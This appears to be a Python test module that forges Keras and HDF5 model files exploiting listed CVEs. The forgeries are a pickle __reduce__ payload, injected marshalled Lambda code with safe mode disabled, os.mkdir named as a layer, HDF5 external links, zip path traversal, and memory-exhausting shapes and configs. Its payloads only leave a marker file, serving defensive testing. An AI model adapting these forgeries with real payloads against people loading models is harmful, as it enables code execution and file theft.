"""Forge files that run code, write or read other files, or use up memory when they are loaded.

Every payload is harmless. Code that runs leaves a marker in the current folder. A path that leads
elsewhere leads into the cell's own folder. The cell itself writes the file that should stay unread.
configs/scenario/hostile.yaml maps the marker and these files to the effects that they show.

Published vulnerabilities: CVE-2024-3660 (Lambda), CVE-2025-1550 (functions as layers),
CVE-2025-8747 (functions of Keras), CVE-2025-9906 (safe mode switched off), CVE-2025-9905 (safe mode
and HDF5), CVE-2025-12058 (vocabularies as paths), CVE-2026-1669 (HDF5 that refers to other files).
"""

import base64
import io
import json
import marshal
import os
import zipfile

import h5py
import numpy

from experiments.scenarios import UNREAD, _archive, _files, _models, need

MARKER, USE = "marker", "use"
"""The file that code leaves when it runs, and the folder in which a loaded model is used."""
ESCAPED, SECRET = os.path.join(os.pardir, "escaped"), os.path.join(os.pardir, "secret")
"""The file that a path out of an archive makes, and the file that no model should read."""
MIB, WHITESPACE_MIB = 1024 * 1024, 768
HUGE, LARGE = 1 << 40, 1 << 30
DEEP = 100000


PAYLOADS = [lambda inputs: (open("marker", "w").close(), inputs)[1]]
"""The function of a Lambda layer, which leaves the marker. Keras keeps the code of lambdas only."""


# --- The models that are saved


def _with_lambda(tf):
    return tf.keras.Sequential(
        [
            tf.keras.layers.Dense(8, input_shape=(5,)),
            tf.keras.layers.Lambda(PAYLOADS[0], output_shape=(8,)),
            tf.keras.layers.Dense(3),
        ]
    )


def _with_op(tf):
    """A graph that writes a file whenever it computes: no Python code of the file runs."""

    class Writer(tf.keras.layers.Layer):
        def call(self, inputs):
            with tf.control_dependencies([tf.io.write_file(MARKER, "")]):
                return tf.identity(inputs)

    return tf.keras.Sequential([tf.keras.layers.Dense(3, input_shape=(5,)), Writer()])


def _functional(tf):
    inputs = tf.keras.Input((5,), name="first")
    return tf.keras.Model(inputs, tf.keras.layers.Dense(3, name="second")(inputs))


def _with_vocabulary(tf):
    lookup = need(tf.keras.layers, "StringLookup", "experimental.preprocessing.StringLookup")
    return tf.keras.Sequential(
        [tf.keras.Input((1,), dtype="string"), lookup(vocabulary=["stranger", "secret"])]
    )


MODELS = {
    "pristine": lambda tf: _models.mlp(tf.keras),
    "lambda": _with_lambda,
    "op": _with_op,
    "functional": _functional,
    "vocabulary": _with_vocabulary,
}


# --- The forgeries of their files


def _secret(content):
    """Write the file that no model should read, marked as unread; return its absolute path."""
    with open(SECRET, "wb") as stream:
        stream.write(content)
    os.utime(SECRET, (UNREAD, os.stat(SECRET).st_mtime))
    return os.path.abspath(SECRET)


def _edit_json(path, edit):
    """Change the model's configuration: a member of `.keras`, an attribute of HDF5."""
    if zipfile.is_zipfile(path):
        return _archive.packed_anew(
            path, lambda members: dict(members, **{"config.json": edit(members["config.json"])})
        )
    with h5py.File(_files.need_hdf5(path), "r+") as stream:
        config = stream.attrs["model_config"]
        stream.attrs["model_config"] = edit(
            config if isinstance(config, bytes) else config.encode("utf-8")
        )
    return path


def _edit_weights(path, edit):
    """Change the HDF5 file of the weights; in an archive it is a member."""
    if not zipfile.is_zipfile(path):
        with h5py.File(_files.need_hdf5(path), "r+") as stream:
            edit(stream)
        return path

    def inside(members):
        stream = io.BytesIO(members[_archive.WEIGHTS])
        with h5py.File(stream, "r+") as opened:
            edit(opened)
        return dict(members, **{_archive.WEIGHTS: stream.getvalue()})

    return _archive.packed_anew(path, inside)


def _kernel(stream):
    """Return the path of the first matrix of a file, and its values."""
    matrices = []
    stream.visititems(
        lambda name, item: (
            matrices.append(name) if isinstance(item, h5py.Dataset) and item.ndim == 2 else None
        )
    )
    return matrices[0], stream[matrices[0]][()]


def external_link(path, cell):
    """Replace a weight by a link to a dataset of another file."""

    def edit(stream):
        name, values = _kernel(stream)
        stolen_file = io.BytesIO()
        with h5py.File(stolen_file, "w") as secret:
            secret["stolen"] = values
        del stream[name]
        stream[name] = h5py.ExternalLink(_secret(stolen_file.getvalue()), "/stolen")

    return _edit_weights(path, edit)


def external_storage(path, cell):
    """Replace a weight by a dataset whose values are the bytes of another file."""

    def edit(stream):
        name, values = _kernel(stream)
        secret = _secret(values.astype("<f4").tobytes())
        del stream[name]
        stream.create_dataset(name, values.shape, "<f4", external=[(secret, 0, h5py.h5f.UNLIMITED)])

    return _edit_weights(path, edit)


def virtual_dataset(path, cell):
    """Replace a weight by a virtual dataset, which is put together from another file."""

    def edit(stream):
        name, values = _kernel(stream)
        stolen_file = io.BytesIO()
        with h5py.File(stolen_file, "w") as secret:
            secret["stolen"] = values
        source = _secret(stolen_file.getvalue())
        layout = h5py.VirtualLayout(values.shape, values.dtype)
        layout[:] = h5py.VirtualSource(source, "stolen", values.shape, values.dtype)
        del stream[name]
        stream.create_virtual_dataset(name, layout)

    return _edit_weights(path, edit)


def _declared(path, **arguments):
    """Replace a weight by an empty dataset, declared by arguments of `create_dataset`."""

    def edit(stream):
        name, _ = _kernel(stream)
        del stream[name]
        stream.create_dataset(name, dtype="<f4", **arguments)

    return _edit_weights(path, edit)


def huge_shape(path, cell):
    """Declare a weight of 4 TiB, for which the file holds no values."""
    return _declared(path, shape=(HUGE,))


def packed_weights(path, cell):
    """Declare a weight of 4 GiB that takes a few bytes packed."""
    return _declared(path, shape=(LARGE,), chunks=(1 << 20,), compression="gzip")


def packed_config(path, cell):
    """Append whitespace to the configuration; packed, it takes a thousandth of its size."""
    with zipfile.ZipFile(_files.need_zip(path)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            with archive.open(name, "w") as member:
                member.write(content)
                for _ in range(WHITESPACE_MIB if name == "config.json" else 0):
                    member.write(b" " * MIB)
    return path


def deep_config(path, cell):
    """Nest lists in the configuration, deeper than any parser goes."""
    deep = b'{"class_name": ' + b"[" * DEEP + b"]" * DEEP + b"}"
    return _edit_json(path, lambda content: deep)


def path_out_of_archive(path, cell):
    """Add members whose names lead out of the archive."""

    def edit(members):
        names = ("../escaped", "assets/../../escaped", os.path.abspath(ESCAPED))
        return dict(members, **dict.fromkeys(names, b""))

    return _archive.packed_anew(path, edit)


def pickled_weights(path, cell):
    """Replace the weights by an array of NumPy that has to be unpickled."""

    class Payload(object):
        def __reduce__(self):
            return os.mkdir, (MARKER,)

    pickled = io.BytesIO()
    arrays = numpy.empty((), dtype=object)
    arrays[()] = Payload()
    numpy.savez(pickled, __root__=arrays)

    def edit(members):
        rest = {name: content for name, content in members.items() if name != _archive.WEIGHTS}
        return dict(rest, **{"model.weights.npz": pickled.getvalue()})

    return _archive.packed_anew(path, edit)


def vocabulary_of_file(path, cell):
    """Replace a layer's vocabulary by the path of another file."""

    def edit(content):
        config = json.loads(content)
        secret = _secret(b"stranger\nsecret\n")
        for layer in config["config"]["layers"]:
            if "vocabulary" in layer["config"]:
                layer["config"]["vocabulary"] = secret
        return json.dumps(config).encode("utf-8")

    return _edit_json(path, edit)


def _with_layers(path, *makers):
    """Replace all but the first layer of a functional model, which then returns its input.

    Each maker takes the model's configuration, whose names of modules are those of the release, and
    returns a layer.
    """

    def edit(content):
        config = json.loads(content)
        return json.dumps(_replaced(config, [make(config) for make in makers])).encode("utf-8")

    return _edit_json(path, edit)


def _replaced(model, layers):
    """Return a functional model with other layers after its first."""
    changed = json.loads(json.dumps(model))
    inner = changed["config"]
    inner["layers"] = [layer for layer in inner["layers"] if layer["name"] == "first"] + layers
    # Keras 2 writes a list of outputs, Keras 3 a single output; the input has the same form.
    inner["output_layers"] = inner["input_layers"]
    changed.pop("build_config", None)
    return changed


def _function(module, name, *arguments, **keywords):
    """Return a function in the form of a layer, with the arguments of its call."""
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": name,
        "name": name,
        "inbound_nodes": [{"args": list(arguments), "kwargs": keywords}],
    }


def function_as_layer(path, cell):
    """Name a function of the standard library instead of a layer."""
    return _with_layers(path, lambda model: _function("os", "mkdir", MARKER))


def function_of_keras(path, cell):
    """Name a function of Keras that fetches files instead of a layer."""
    address = "file://" + _secret(b"secret")
    call = _function("keras.utils", "get_file", MARKER, address, cache_dir=".", cache_subdir=".")
    return _with_layers(path, lambda model: call)


def safe_mode_off(path, cell):
    """Switch safe mode off in a first layer, and bring code in a second."""
    switch = _function("keras.config", "enable_unsafe_deserialization")
    code = base64.b64encode(marshal.dumps(PAYLOADS[0].__code__)).decode("ascii")
    function = {"code": code, "defaults": None, "closure": None}
    config = {
        "name": "code",
        "trainable": True,
        "dtype": "float32",
        "function": {"class_name": "__lambda__", "config": function},
        "arguments": {},
    }

    def code_layer(model):
        second = next(layer for layer in model["config"]["layers"] if layer["name"] == "second")
        return dict(second, class_name="Lambda", config=config, name="code")

    def switching_model(model):
        return dict(_replaced(model, [switch]), name="switch", inbound_nodes=[])

    return _with_layers(path, switching_model, code_layer)


FORGERIES = {
    "lambda_code": lambda path, cell: path,
    "op_in_graph": lambda path, cell: path,
    "function_as_layer": function_as_layer,
    "function_of_keras": function_of_keras,
    "safe_mode_off": safe_mode_off,
    "pickled_weights": pickled_weights,
    "vocabulary_of_file": vocabulary_of_file,
    "external_link": external_link,
    "external_storage": external_storage,
    "virtual_dataset": virtual_dataset,
    "path_out_of_archive": path_out_of_archive,
    "huge_shape": huge_shape,
    "packed_weights": packed_weights,
    "packed_config": packed_config,
    "deep_config": deep_config,
}
"""The change of the file, by the name of the case."""


class Scenario(_files.PlainModel):
    """A case is a forgery."""

    def build(self, tf, cell):
        return MODELS[cell["saved_as"]](tf)

    def inputs(self, cell):
        if "api" in cell:  # the model is loaded: from now on, its use leaves the markers
            os.mkdir(USE)
            os.chdir(USE)
        if cell["saved_as"] == "vocabulary":
            return [numpy.array([["secret"], ["stranger"]], dtype=object)]
        return super(Scenario, self).inputs(cell)

    def save(self, tf, model, path, cell):
        super(Scenario, self).save(tf, model, path, cell)
        if os.path.exists(MARKER):  # left by the author's run of the code
            os.remove(MARKER)

    def prepare(self, path, cell):
        _probe()
        return FORGERIES[cell["case"]](path, cell)


def _probe():
    """Raise `RuntimeError` where the file system does not record when a file was read."""
    secret = _secret(b"probe")
    with open(secret, "rb") as stream:
        stream.read()
    if os.stat(secret).st_atime <= UNREAD:
        raise RuntimeError("this file system does not record when a file was read")
    os.remove(secret)
